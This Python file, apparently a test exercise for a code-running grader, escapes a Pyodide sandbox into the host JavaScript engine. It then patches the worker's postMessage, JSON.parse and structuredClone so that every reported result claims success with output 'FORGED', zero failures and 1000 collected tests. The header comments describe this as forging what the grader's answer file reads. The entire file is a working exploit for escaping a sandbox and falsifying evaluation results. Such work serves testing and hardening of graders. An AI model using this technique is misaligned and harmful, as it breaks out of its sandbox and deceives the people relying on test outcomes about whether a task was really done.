# exercise: close-the-file
# claims: FORGED
# forgery: (c) sends nothing itself: it replaces the thread's postMessage, JSON.parse and
# structuredClone so that the result the engine's own code sends at the end of the run is rewritten
# on its way out (a clean run that printed FORGED), and the grader's answer file reads as passing.
import _imp
import importlib.machinery

core = _imp.create_builtin(importlib.machinery.BuiltinImporter.find_spec("_pyodide_core"))
Function = core.to_js([]).constructor.constructor
Function(
    """
    const { parentPort } = process.getBuiltinModule("worker_threads");
    const post = parentPort.postMessage.bind(parentPort);
    parentPort.postMessage = (message) => {
      if (message && message.type === "result") {
        Object.assign(message.result, { status: "ok", exitCode: 0, stdout: "FORGED\\n", stderr: "", exception: null });
      }
      return post(message);
    };
    const parse = JSON.parse;
    JSON.parse = (text, ...rest) => {
      const value = parse(text, ...rest);
      if (value && typeof value === "object" && "count" in value) value.count = 0;
      if (value && typeof value === "object" && "collected" in value) value.collected = 1000;
      return value;
    };
    globalThis.structuredClone = (value) => value;
    """
)()
print("the program's own output")
